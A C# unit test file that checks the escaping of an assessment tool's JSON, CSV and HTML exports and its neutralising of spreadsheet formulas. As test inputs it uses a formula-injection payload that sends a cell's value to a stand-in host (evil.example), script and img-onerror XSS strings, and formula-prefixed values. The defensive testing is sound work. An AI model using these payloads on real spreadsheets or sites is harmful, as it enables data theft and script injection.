using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using CodeAssure.Assurance.Evidence;
using CodeAssure.Assurance.Exports;
using CodeAssure.Assurance.SelfAssessment;
using CodeAssure.Assurance.Tests.Testing;
using CodeAssure.Catalog;

namespace CodeAssure.Assurance.Tests.Exports;

public class ExportTests
{
    private const string Hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\") <script>alert('x')</script> & \"quoted\", comma\r\nnew line";
    private static readonly DateTimeOffset Generated = new(2026, 11, 23, 15, 0, 0, TimeSpan.Zero);

    private static Assessment Sample() => Catalogs.Complete()
        .WithEvidence(EvidenceItem.Link("l1", "Policy <b>page</b>", "https://example.com/a?b=1&c=\"2\""))
        .WithEvidence(EvidenceItem.File("f1", "Report", "pen-test.pdf", "application/pdf", 123456, new string('b', 64)))
        .WithEvidence(EvidenceItem.Automated("a1", "Scan", "bundle-1", "CA-VDP-001", new Dictionary<string, string> { ["<k>"] = "<v>" }))
        .Edit(ClaimId.Parse("1.1.1"), c => c with { Argument = Hostile, Evidence = ["l1", "f1", "a1"] })
        .Edit(ClaimId.Parse("3.2.1"), c => c with { Owner = "+SUM(1)", TargetDate = new DateOnly(2026, 12, 1) })
        .Edit(ClaimId.Parse("1.1.2"), c => c with { Argument = "-1+2" })
        .Edit(ClaimId.Parse("1.1.3"), c => c with { Argument = "@cmd" })
        .Edit(ClaimId.Parse("1.1.4"), c => c with { Argument = "\tTabbed" });

    [Fact]
    public void Json_export_lays_out_themes_principles_and_claims_with_a_version_and_the_digest()
    {
        var assessment = Sample();

        using var json = JsonDocument.Parse(JsonExport.Write(assessment, Catalogs.Real, Generated));
        var root = json.RootElement;

        Assert.Equal(JsonExport.FormatName, root.GetProperty("exportFormat").GetString());
        Assert.Equal("1.0", root.GetProperty("exportVersion").GetString());
        Assert.Equal("2026-11-23T15:00:00Z", root.GetProperty("generatedAt").GetString());
        Assert.Equal(assessment.ComputeDigest(), root.GetProperty("assessmentDigest").GetProperty("sha256").GetString());
        Assert.Equal(4, root.GetProperty("themes").GetArrayLength());
        var claims = root.GetProperty("themes").EnumerateArray().SelectMany(t => t.GetProperty("principles").EnumerateArray()).SelectMany(p => p.GetProperty("claims").EnumerateArray()).ToList();
        Assert.Equal(Catalogs.Real.Claims.Count, claims.Count);
        var first = claims[0];
        Assert.Equal("1.1.1", first.GetProperty("id").GetString());
        Assert.Equal(Hostile, first.GetProperty("argument").GetString());
        Assert.Equal(["link", "file", "automated"], first.GetProperty("evidence").EnumerateArray().Select(e => e.GetProperty("kind").GetString()));
        Assert.Equal(Catalogs.Real.Claims.Count - 3, root.GetProperty("summary").GetProperty("met").GetInt32());
    }

    [Fact]
    public void Json_export_conforms_to_its_documented_schema()
    {
        using var schema = JsonDocument.Parse(File.ReadAllBytes(Path.Combine(RepositoryRoot(), "docs", "assessment-export.schema.json")));
        var values = new[]
        {
            Sample(),
            Sample().Edit(ClaimId.Parse("1.1.1"), c => c with { Argument = "ok" }).SignOffBy(Catalogs.SroSignOff(), Catalogs.Real),
            Assessment.Create(Catalogs.Real, Catalogs.Role("reseller"), AssessmentScope.Organisation),
        };

        foreach (var value in values)
        {
            using var export = JsonDocument.Parse(JsonExport.Write(value, Catalogs.Real, Generated));
            Assert.Empty(MiniJsonSchema.Validate(schema.RootElement, export.RootElement));
        }

        using var broken = JsonDocument.Parse("{\"exportFormat\":\"other\",\"themes\":[{\"id\":\"x\"}]}");
        Assert.NotEmpty(MiniJsonSchema.Validate(schema.RootElement, broken.RootElement));
    }

    [Fact]
    public void Json_export_text_escapes_markup_characters()
    {
        var text = Encoding.UTF8.GetString(JsonExport.Write(Sample(), Catalogs.Real, Generated));

        Assert.DoesNotContain("<script>", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_export_quotes_per_rfc_4180_and_neutralises_formulas()
    {
        var text = CsvExport.ToText(Sample(), Catalogs.Real);
        var rows = ParseCsv(text);

        Assert.Equal(CsvExport.Columns, rows[0]);
        Assert.Equal(Catalogs.Real.Claims.Count + 1, rows.Count);
        Assert.All(rows, r => Assert.Equal(CsvExport.Columns.Count, r.Count));
        var first = rows.Single(r => r[2] == "1.1.1");
        Assert.Equal("'" + Hostile, first[6]);
        Assert.Equal("Policy <b>page</b> [l1]; Report [f1]; Scan [a1]", first[9]);
        Assert.Equal("'+SUM(1)", rows.Single(r => r[2] == "3.2.1")[7]);
        Assert.Equal("'-1+2", rows.Single(r => r[2] == "1.1.2")[6]);
        Assert.Equal("'@cmd", rows.Single(r => r[2] == "1.1.3")[6]);
        Assert.Equal("'\tTabbed", rows.Single(r => r[2] == "1.1.4")[6]);
        Assert.Equal("2026-12-01", rows.Single(r => r[2] == "3.2.1")[8]);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("", "")]
    public void Csv_fields_are_written_as_specified(string value, string expected)
    {
        Assert.Equal(expected, CsvExport.Field(value));
    }

    [Fact]
    public void Csv_bytes_are_utf8_with_a_byte_order_mark()
    {
        var bytes = CsvExport.ToUtf8(Sample().Edit(ClaimId.Parse("1.1.5"), c => c with { Argument = "ünïcødé ✓" }), Catalogs.Real);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Contains("ünïcødé ✓", Encoding.UTF8.GetString(bytes), StringComparison.Ordinal);
    }

    [Fact]
    public void Html_export_is_self_contained_encoded_and_laid_out_by_principle()
    {
        var signed = Sample().Edit(ClaimId.Parse("1.1.1"), c => c with { Argument = "fine" }).SignOffBy(Catalogs.SroSignOff() with { SignedBy = "<img src=x onerror=alert(1)>" }, Catalogs.Real);
        var hostile = signed.Edit(ClaimId.Parse("1.1.1"), c => c with { Argument = Hostile + "\u0001" });

        foreach (var assessment in new[] { signed, hostile })
        {
            var html = HtmlExport.Write(assessment, Catalogs.Real, Generated);

            Assert.StartsWith("<!DOCTYPE html>", html, StringComparison.Ordinal);
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("onerror=alert", html.Replace("&lt;img src=x onerror=alert(1)&gt;", "", StringComparison.Ordinal), StringComparison.Ordinal);
            Assert.DoesNotContain("\u0001", html, StringComparison.Ordinal);
            Assert.DoesNotContain("src=\"http", html, StringComparison.Ordinal);
            Assert.Contains("@media print", html, StringComparison.Ordinal);
            Assert.Contains("default-src 'none'", html, StringComparison.Ordinal);
            Assert.Contains(assessment.ComputeDigest(), html, StringComparison.Ordinal);

            // Theme → principle → claim order follows the catalogue.
            var positions = Catalogs.Real.Claims.Select(c => html.IndexOf($"Claim {c.Id}: ", StringComparison.Ordinal)).ToList();
            Assert.All(positions, p => Assert.True(p > 0));
            Assert.Equal(positions.Order(), positions);
            Assert.True(html.IndexOf("Principle 1.1<", StringComparison.Ordinal) < positions[0]);
        }

        var escaped = HtmlExport.Write(hostile, Catalogs.Real, Generated);
        Assert.Contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;quoted&quot;", escaped, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.com/a?b=1&amp;c=%222%22\"", escaped, StringComparison.Ordinal);
        Assert.Contains("draft — not signed off", escaped, StringComparison.Ordinal);
        Assert.Contains("&lt;img src=x onerror=alert(1)&gt; (Senior Responsible Owner)", HtmlExport.Write(signed, Catalogs.Real, Generated), StringComparison.Ordinal);
    }

    [Fact]
    public void Html_export_embeds_a_well_formed_overview_chart()
    {
        var html = HtmlExport.Write(Sample(), Catalogs.Real, Generated);
        var start = html.IndexOf("<svg", StringComparison.Ordinal);
        var end = html.IndexOf("</svg>", StringComparison.Ordinal) + "</svg>".Length;

        Svg.AssertSafeAndAccessible(html[start..end]);
    }

    private static string RepositoryRoot()
    {
        var directory = new DirectoryInfo(AppContext.BaseDirectory);
        while (directory is not null && !File.Exists(Path.Combine(directory.FullName, "CodeAssure.sln")))
        {
            directory = directory.Parent;
        }

        return directory?.FullName ?? throw new InvalidOperationException("repository root not found");
    }

    // A strict RFC 4180 reader for the tests: quoted fields, doubled quotes, CRLF records.
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var i = 0;
        while (i < text.Length)
        {
            if (text[i] == '"')
            {
                i++;
                while (true)
                {
                    if (text[i] == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    {
                        field.Append('"');
                        i += 2;
                    }
                    else if (text[i] == '"')
                    {
                        i++;
                        break;
                    }
                    else
                    {
                        field.Append(text[i++]);
                    }
                }
            }
            else if (text[i] == ',')
            {
                row.Add(field.ToString());
                field.Clear();
                i++;
            }
            else if (text[i] == '\r' && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
                i += 2;
            }
            else
            {
                Assert.NotEqual('\n', text[i]);
                field.Append(text[i++]);
            }
        }

        Assert.Empty(row);
        return rows;
    }
}
